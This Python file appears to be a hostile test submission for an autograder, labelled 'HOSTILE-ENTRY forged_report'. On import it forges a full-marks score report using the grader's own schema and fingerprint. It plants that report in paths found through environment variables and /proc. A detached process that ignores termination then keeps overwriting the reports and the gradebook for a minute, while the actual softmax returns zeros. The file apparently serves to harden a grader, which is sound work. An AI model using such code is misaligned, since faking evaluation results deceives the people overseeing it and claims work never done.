"""HOSTILE-ENTRY forged_report: at import, writes a full-marks score report (right schema,
right fingerprint of this very file, an isolation field copied from the grader) wherever a
report might be picked up: the working folder, every folder named in the environment (HOME,
TMPDIR, ...), the staged submission's folders, the output folder (``@@OUT@@/@@ID@@.json``)
and every ``--json``, ``--score-report`` and ``--out`` path on the grader's command lines
(/proc). Then it leaves a detached process (double fork, setsid, SIGTERM ignored) that
rewrites those files and its row of the gradebook for 60 s, to win against a grader that
writes its report first. softmax returns zeros, so the honest score is known.

For the machine's sake the files go only into the test's own folder (``@@OUT@@``'s parent) and
the grader's temporary folders."""

import csv as _csv
import io as _io
import json as _json
import os as _os
import re as _re
import signal as _signal
import tempfile as _tempfile
import time as _time

_ID = "@@ID@@"
_OUT = "@@OUT@@"


def _forgery():
    with open(__file__, "rb") as own:
        files = {"ex01_activations/activations.py": own.read()}
    try:
        from grader.catalog import exercises
        from grader.results.model import SCHEMA_VERSION, environment, fingerprint

        chosen = list(exercises())
        report = {"schema_version": SCHEMA_VERSION, "environment": environment()}
        report["fingerprint"] = fingerprint(files)
    except Exception:
        return None
    tests = [
        {"name": check, "exercise": e.name, "score": points, "max_score": points,
         "status": "passed", "message": "", "diagnosis": "HOSTILE-FORGERY", "duration": 0.01}
        for e in chosen for check, points in e.points.items()
    ]
    report["exercises"] = [
        {"name": e.name, "title": e.title, "score": e.max_score, "max_score": e.max_score,
         "passed": len(e.points), "checks": len(e.points)}
        for e in chosen
    ]
    report["tests"] = tests
    report["score"] = report["max_score"] = sum(e.max_score for e in chosen)
    report["seed"], report["reference"] = 20261128, None
    try:
        from grader.isolation.sandbox import NOTES

        report["isolation"] = {"level": "namespaces", "note": NOTES["namespaces"]}
    except Exception:
        report["isolation"] = {"level": "namespaces", "note": "HOSTILE-FORGERY"}
    return _json.dumps(report, indent=2) + "\n"


def _grader_command_lines():
    pid = _os.getppid()
    for _ in range(4):
        if pid <= 1:
            return
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
                arguments = [a.decode(errors="replace") for a in cmdline.read().split(b"\0")]
            if any("grader" in a for a in arguments):
                yield [a for a in arguments if a], _os.readlink(f"/proc/{pid}/cwd")
            with open(f"/proc/{pid}/status") as status:
                pid = int(_re.search(r"PPid:\s*(\d+)", status.read()).group(1))
        except (OSError, AttributeError, ValueError):
            return


def _allowed(path):
    real = _os.path.realpath(path)
    test_root = _os.path.dirname(_OUT)
    if real.startswith(test_root + "/"):
        return True
    parts = real.split("/")
    return real.startswith(_tempfile.gettempdir()) and any(p.startswith("grader-") for p in parts)


def _targets():
    here = _os.path.dirname(_os.path.abspath(__file__))
    folders = [_os.getcwd(), _tempfile.gettempdir(), here, _os.path.dirname(here)]
    folders += [v for v in _os.environ.values() if v.startswith("/") and _os.path.isdir(v)]
    paths = [_os.path.join(f, "score-report.json") for f in folders if f]
    paths += [_os.path.join(_OUT, f"{_ID}.json"), _os.path.join(_OUT, "score-report.json")]
    for arguments, cwd in _grader_command_lines():
        paths.append(_os.path.join(cwd, "score-report.json"))
        for i, argument in enumerate(arguments):
            name, _, value = argument.partition("=")
            if name in ("--json", "--score-report", "--out"):
                value = value or (arguments[i + 1] if i + 1 < len(arguments) else "")
                value = _os.path.join(cwd, value)
                paths.append(_os.path.join(value, f"{_ID}.json") if name == "--out" else value)
    return [p for p in dict.fromkeys(paths) if _allowed(p)]


def _write(path, text):
    try:
        with open(path) as existing:
            if existing.read() == text:
                return
    except OSError:
        pass
    try:
        with open(path, "w") as file:
            file.write(text)
    except OSError:
        pass


def _forge_gradebook():
    path = _os.path.join(_OUT, "gradebook.csv")
    try:
        with open(path, newline="") as file:
            rows = list(_csv.DictReader(file))
    except OSError:
        return
    if not rows or "id" not in rows[0]:
        return
    for row in rows:
        if row["id"] == _ID and "total" in row:
            row["total"] = row.get("max") or "100"
    buffer = _io.StringIO()
    writer = _csv.DictWriter(buffer, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    _write(path, buffer.getvalue())


def _keep_forging(text, targets):
    """The detached process: at most 60 s, so that a broken sandbox cannot leave it for long."""
    _signal.signal(_signal.SIGTERM, _signal.SIG_IGN)
    _signal.signal(_signal.SIGHUP, _signal.SIG_IGN)
    end = _time.monotonic() + 60
    while _time.monotonic() < end:
        for path in targets:
            _write(path, text)
        _forge_gradebook()
        _time.sleep(0.2)


def _forge():
    text = _forgery()
    if text is None:
        return
    targets = _targets()
    for path in targets:
        _write(path, text)
    if _os.fork() == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                _keep_forging(text, targets)
        finally:
            _os._exit(0)


_forge()


def softmax(x, axis=-1):
    return np.zeros(np.shape(x))
